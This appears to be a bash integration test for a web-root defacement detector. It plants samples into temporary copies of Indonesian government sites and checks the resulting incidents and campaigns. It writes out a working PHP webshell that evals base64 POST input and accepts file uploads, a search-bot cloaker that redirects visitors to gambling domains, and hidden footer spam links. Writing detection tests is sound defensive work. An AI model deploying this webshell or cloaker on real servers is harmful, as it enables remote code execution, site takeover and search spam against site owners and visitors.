#!/bin/bash
# ronda-test: exclusive (a 50,000-file first scan and a 2 s deadline)
# The defacement itself, end to end and live (issue 15): one ronda-collector
# watches four sites' web roots (bontangkota.go.id's holds 50,000 files),
# ronda-devbroker carries its events, ronda-correlator turns them into
# incidents and a campaign in its SQLite store.
#   - a shell dropped into uploads is a critical webshell_file incident
#     within 2 s (measured from the write to the committed incident);
#   - a cloaker prepended to index.php and hidden gambling links in the
#     theme footer are a gambling_injection incident naming the domains;
#   - the same injected domain on four sites' roots is one campaign;
#   - a WordPress-sized benign update (1,500 files) is nothing above low.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/webroot_lib.sh"
require_cmd kcat sqlite3 python3

start_broker --topics ronda.events,ronda.events.dlq,ronda.alerts --partitions 4
SITES="bontangkota.go.id kutaitimurkab.go.id samarindakota.go.id paserkab.go.id"

gen_tree "$T/www/bontangkota.go.id" 500 100
for s in kutaitimurkab.go.id samarindakota.go.id paserkab.go.id; do
    gen_tree "$T/www/$s" 10 10
done
mkdir -p "$T/www/bontangkota.go.id/wp-content/themes/dinas"
printf '<?php wp_footer(); ?>\n</body></html>\n' >"$T/www/bontangkota.go.id/wp-content/themes/dinas/footer.php"

cat >"$T/collector.yaml" <<YAML
site: bontangkota.go.id
agency: Diskominfo Bontang
region: Kalimantan Timur
timezone: Asia/Makassar
state_db: $T/state.db
stats_interval: 2s
rules_cache: $RONDA_SRC/build/rules-cache
kafka: {brokers: $BROKER, topic: ronda.events}
webroots:
$(for s in $SITES; do printf '  - {path: %s, site: %s}\n' "$T/www/$s" "$s"; done)
YAML

cat >"$T/correlator.yaml" <<YAML
kafka:
  brokers: $BROKER
  topic: ronda.events
  group: ronda-correlator
  properties: {session.timeout.ms: "6000"}
store: $T/ronda.db
batch: {interval: 200ms}
sites:
$(for s in $SITES; do printf '  - {id: %s, timezone: Asia/Makassar}\n' "$s"; done)
YAML
"$RONDA_BIN/ronda-correlator" -c "$T/correlator.yaml" --check-config | grep -q "configuration OK" ||
    fail "correlator check-config"

q() { sqlite3 -cmd ".timeout 2000" "$T/ronda.db" "$1" 2>/dev/null; }
spawn correlator "$RONDA_BIN/ronda-correlator" -c "$T/correlator.yaml"
wait_for grep -q "assigned" "$T/correlator.log" --timeout 30 || fail "correlator not assigned"
spawn collector "$RONDA_BIN/ronda-collector" -c "$T/collector.yaml"
for s in $SITES; do
    wait_for grep -q "$T/www/$s.*baselined (\|baselined (.*$T/www/$s" "$T/collector.log" \
        --timeout 120 || fail "$s: first scan did not end"
done
echo "web roots: first scan of $(find "$T/www" -type f | wc -l) files done"
n=$(q "SELECT count(*) FROM incidents")
[ "$n" = 0 ] || fail "a benign tree made $n incidents: $(q "SELECT kind, site FROM incidents")"

# 1. A shell in uploads: a critical incident within 2 s of the write.
has_shell() {
    [ "$(q "SELECT count(*) FROM incidents WHERE kind='webshell_file' AND severity='critical'
        AND site='bontangkota.go.id'")" = 1 ]
}
up="$T/www/bontangkota.go.id/wp-content/uploads/2026/11"
mkdir -p "$up"
t0=$(_now_ms)
cat >"$up/logo-pemda.php" <<'PHP'
<?php
/* Alfa-Shell v4.1 */
@error_reporting(0); @set_time_limit(0);
if (isset($_POST['a'])) { @eval(base64_decode($_POST['a'])); }
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"></form>';
if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }
PHP
wait_for has_shell --timeout 10 || {
    q "SELECT kind, severity, site FROM incidents"; fail "no critical webshell_file incident"; }
dt=$(( $(_now_ms) - t0 ))
echo "webshell dropped: critical incident after $dt ms"
[ "$dt" -le "$(_ms_of "$(scaled 2)")" ] || fail "webshell incident took $dt ms (> 2 s)"
ev=$(q "SELECT e.line FROM evidence e JOIN incidents i ON i.id = e.incident_id
    WHERE i.kind = 'webshell_file'")
grep -q "file_created wp-content/uploads/2026/11/logo-pemda.php" <<<"$ev" ||
    fail "evidence does not name the file: $ev"
[ "$(q "SELECT count(*) FROM indicators WHERE type='webshell'
    AND value='/wp-content/uploads/2026/11/logo-pemda.php'")" -ge 1 ] || fail "no webshell path indicator"
[ "$(q "SELECT count(*) FROM indicators WHERE type='file_hash'")" -ge 1 ] || fail "no file_hash indicator"

# 2. A cloaker prepended to index.php, hidden links in the footer: gambling_injection.
inject() {  # inject ROOT DOMAIN
    local idx="$1/index.php" tmp="$1/.index.tmp"
    { cat <<PHP
<?php
\$ua = strtolower(\$_SERVER['HTTP_USER_AGENT'] ?? '');
\$ref = \$_SERVER['HTTP_REFERER'] ?? '';
if (preg_match('/googlebot|bingbot|google-inspectiontool/', \$ua)) {
    echo file_get_contents('https://$2/landing/slot-gacor.html'); exit;
}
if (strpos(\$ref, 'google.co.id') !== false) { header('Location: https://$2/daftar'); exit; }
?>
PHP
      cat "$idx"; } >"$tmp" && mv "$tmp" "$idx"
}
inject "$T/www/bontangkota.go.id" gacor-maxwin88.example
cat >>"$T/www/bontangkota.go.id/wp-content/themes/dinas/footer.php" <<'HTML'
<div style="position:absolute;left:-9999px;top:-9999px">
<a href="https://gacor-maxwin88.example/">slot gacor</a> <a href="https://gacor-maxwin88.example/togel">togel online</a>
<a href="https://togel4d-resmi.example/">situs judi slot online maxwin</a> <a href="https://gacor-maxwin88.example/rtp">rtp live slot gacor hari ini</a>
</div>
HTML
# Both files (index.php, then the footer) reach the one incident of the site.
gi() {
    [ "$(q "SELECT count(DISTINCT n.value) FROM indicators n JOIN incidents i ON i.id = n.incident_id
        WHERE i.kind = 'gambling_injection' AND i.site = '$1' AND n.type = 'gambling'
        AND n.value IN ('gacor-maxwin88.example', 'togel4d-resmi.example')")" = 2 ]
}
wait_for gi bontangkota.go.id --timeout 10 || {
    q "SELECT kind, severity, site FROM incidents"; q "SELECT type, value FROM indicators"
    fail "no gambling_injection incident naming both domains"; }
[ "$(q "SELECT count(*) FROM incidents WHERE kind='gambling_injection'")" = 1 ] ||
    fail "index.php and the footer made more than one incident"
doms=$(q "SELECT DISTINCT n.value FROM indicators n JOIN incidents i ON i.id = n.incident_id
    WHERE i.kind = 'gambling_injection' AND n.type = 'gambling' ORDER BY 1")
echo "gambling_injection names: $(tr '\n' ' ' <<<"$doms")"
grep -qx "gacor-maxwin88.example" <<<"$doms" || fail "injected domain not named: $doms"
grep -qx "togel4d-resmi.example" <<<"$doms" || fail "hidden-link domain not named: $doms"
[ "$(q "SELECT severity FROM incidents WHERE kind='gambling_injection'")" = high ] ||
    fail "gambling_injection not high"

# 3. The same domain on three more sites: one campaign of the four.
for s in kutaitimurkab.go.id samarindakota.go.id paserkab.go.id; do
    inject "$T/www/$s" gacor-maxwin88.example
done
camp4() {
    [ "$(q "SELECT count(DISTINCT i.site) FROM campaign_incidents ci
        JOIN incidents i ON i.id = ci.incident_id WHERE i.kind = 'gambling_injection'")" = 4 ]
}
wait_for camp4 --timeout 20 || {
    q "SELECT id, status, link, title FROM campaigns"; fail "the four sites are not one campaign"; }
nc=$(q "SELECT count(DISTINCT ci.campaign_id) FROM campaign_incidents ci
    JOIN incidents i ON i.id = ci.incident_id JOIN campaigns c ON c.id = ci.campaign_id
    WHERE i.kind = 'gambling_injection' AND c.status != 'merged'")
[ "$nc" = 1 ] || fail "gambling_injection spread over $nc campaigns"
link=$(q "SELECT c.link FROM campaigns c JOIN campaign_incidents ci ON ci.campaign_id = c.id
    JOIN incidents i ON i.id = ci.incident_id WHERE i.kind = 'gambling_injection' AND c.status != 'merged'
    LIMIT 1")
echo "campaign: $(q "SELECT link || ' | ' || title FROM campaigns WHERE status != 'merged'")"
[ "$link" = fingerprint ] || fail "the injected domain linked as '$link', not as a fingerprint"

# 4. A WordPress-sized benign update: 1,500 files rewritten, nothing above low.
before=$(q "SELECT count(*) FROM incidents WHERE severity IN ('medium','high','critical')")
python3 - "$T/www/bontangkota.go.id" <<'PY'
import os, sys
root = sys.argv[1]
n = 0
for d, _, files in sorted(os.walk(root)):
    if "uploads" in d or "themes" in d:
        continue
    for f in sorted(files):
        if not f.endswith(".php") or f == "index.php":
            continue
        p = os.path.join(d, f)
        with open(p, "a") as fh:
            fh.write("\n// WordPress 6.7.1: %s\nfunction wp_update_%d() { return %d; }\n" % (f, n, n))
        n += 1
        if n == 1500:
            sys.exit(0)
PY
# Every one of the 1,500 changes applied: the note's count (20 to open it, one per change after).
bulk() { [ "$(q "SELECT event_count FROM incidents WHERE kind='bulk_change'")" -ge 1500 ] 2>/dev/null; }
wait_for bulk --timeout 60 || fail "no bulk_change note of 1,500 changed files: $(q "SELECT kind, event_count FROM incidents")"
after=$(q "SELECT count(*) FROM incidents WHERE severity IN ('medium','high','critical')")
[ "$after" = "$before" ] || fail "the benign update raised: $(q "SELECT kind, severity, site FROM incidents")"
[ "$(q "SELECT severity FROM incidents WHERE kind='bulk_change'")" = low ] || fail "bulk_change not low"
echo "benign update of 1,500 files: one low bulk_change, nothing above low"

echo "webroot incidents: OK"
